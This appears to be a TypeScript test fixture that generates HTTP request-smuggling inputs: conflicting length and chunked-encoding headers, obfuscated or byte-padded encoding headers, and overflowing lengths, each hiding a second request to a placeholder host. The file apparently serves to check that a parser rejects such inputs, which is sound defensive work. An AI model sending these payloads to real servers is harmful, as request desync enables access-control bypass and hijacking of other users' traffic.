const line = "POST /v1/chat/completions HTTP/1.1";
const host = "Host: sluice.example";
const inner = "GET /smuggled HTTP/1.1\r\nHost: sluice.example\r\n\r\n";
const join = (lines: readonly string[], body: string): string => `${lines.join("\r\n")}\r\n\r\n${body}`;

/** A body that ends before the inner request for one who reads chunks, and after it for one who reads the length. */
const afterChunks = `0\r\n\r\n${inner}`;
const lengthOf = (body: string): string => `Content-Length: ${body.length}`;
const bothWays = (encoding: string): string => join([line, host, lengthOf(afterChunks), encoding], afterChunks);
const bothWaysTurned = (encoding: string): string => join([line, host, encoding, lengthOf(afterChunks)], afterChunks);

/** The encoding written so that some servers see it and others do not. */
const hiddenEncodings = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:\x0bchunked",
  "Transfer-Encoding:\x0cchunked",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: chunked\x00",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: cHuNkEd",
  "transfer-encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\n chunked",
  " Transfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\r\nTransfer-Encoding: chunked",
  "X: y\0\r\nTransfer-Encoding: chunked",
  "X: y\r\n\tTransfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\0: chunked",
  "\x00Transfer-Encoding: chunked",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
];

/** Pairs of lengths; the second is that of the inner request, too. */
const long = String(inner.length);
const lengths: readonly (readonly [name: string, lines: readonly string[]])[] = [
  ["two lengths", ["Content-Length: 0", `Content-Length: ${long}`]],
  ["two lengths, the longer first", [`Content-Length: ${long}`, "Content-Length: 0"]],
  ["a list of lengths", [`Content-Length: 0, ${long}`]],
  ["a plus", [`Content-Length: +${long}`]],
  ["a minus", ["Content-Length: -0", `Content-Length: ${long}`]],
  ["hexadecimal", ["Content-Length: 0x0"]],
  ["octal", [`Content-Length: 0${long}`]],
  ["a line feed before the second length", [`Content-Length: 0\nContent-Length: ${long}`]],
  ["a folded length", ["Content-Length: 0", ` ${long}`]],
  ["an empty and a folded length", ["Content-Length:", ` ${long}`]],
  ["a space before the colon", [`Content-Length : ${long}`]],
  ["a length that overflows 32 bits to 0", ["Content-Length: 4294967296"]],
  ["a length that overflows 64 bits to 0", ["Content-Length: 18446744073709551616"]],
  ["a vertical tab", [`Content-Length:\x0b${long}`]],
  ["a NUL after the length", ["Content-Length: 0\0"]],
  ["a point", ["Content-Length: 0.0"]],
  ["an exponent", ["Content-Length: 0e9"]],
  ["no length", []],
  ["an underscore", [`Content_Length: ${long}`]],
];

/** Bytes with which a second request was smuggled past some server before; what is legal is one request each time. */
export const smugglingCases: readonly (readonly [name: string, text: string])[] = [
  ...hiddenEncodings.map((encoding) => [`a length, then ${JSON.stringify(encoding)}`, bothWays(encoding)] as const),
  ...hiddenEncodings.map(
    (encoding) => [`${JSON.stringify(encoding)}, then a length`, bothWaysTurned(encoding)] as const,
  ),
  ...lengths
    .filter(([name]) => name !== "no length" && name !== "an underscore")
    .map(([name, lines]) => [name, join([line, host, ...lines], inner)] as const),
  ["a second request line in a value", join([line, host, `X: y\r\n${inner.trim()}`, "Content-Length: 0"], "")],
];

/** Where a byte was put to hide an encoding from one of two servers; smuggler.py tries all of them. */
const bytePlaces: readonly (readonly [name: string, hide: (byte: string) => string])[] = [
  ["before the name", (byte) => `${byte}Transfer-Encoding: chunked`],
  ["in the name", (byte) => `Transfer${byte}-Encoding: chunked`],
  ["in place of the dash", (byte) => `Transfer${byte}Encoding: chunked`],
  ["after the name", (byte) => `Transfer-Encoding${byte}: chunked`],
  ["before the value", (byte) => `Transfer-Encoding:${byte}chunked`],
  ["in the value", (byte) => `Transfer-Encoding: ch${byte}nked`],
  ["after the value", (byte) => `Transfer-Encoding: chunked${byte}`],
  ["between two fields", (byte) => `X: y${byte}Transfer-Encoding: chunked`],
  ["after a carriage return", (byte) => `X: y\r${byte}Transfer-Encoding: chunked`],
  ["before a line feed", (byte) => `X: y${byte}\nTransfer-Encoding: chunked`],
  ["before the name of a length", (byte) => `${byte}Content-Length: 0`],
  ["after the name of a length", (byte) => `Content-Length${byte}: 0`],
  ["before a length", (byte) => `Content-Length:${byte}0`],
  ["after a length", (byte) => `Content-Length: 0${byte}`],
];
/** Control characters, DEL, and all beyond ASCII. */
const hidingBytes = [...Array(32).keys(), ...Array.from({ length: 129 }, (_, index) => 127 + index)];

/** Every such byte in every such place, before the length and after it. */
export const byteCases: readonly { readonly name: string; readonly text: string }[] = bytePlaces.flatMap(
  ([place, hide]) =>
    hidingBytes.flatMap((code) => {
      const hidden = hide(String.fromCharCode(code));
      const name = `0x${code.toString(16).padStart(2, "0")} ${place}`;
      return [
        { name: `${name}, after the length`, text: bothWays(hidden) },
        { name: `${name}, before the length`, text: bothWaysTurned(hidden) },
      ];
    }),
);

/** Names of those that hide nothing: the byte is a blank in the value of a field without a meaning. */
export const tabsInValues = ["after the length", "before the length"].map(
  (order) => `0x09 between two fields, ${order}`,
);
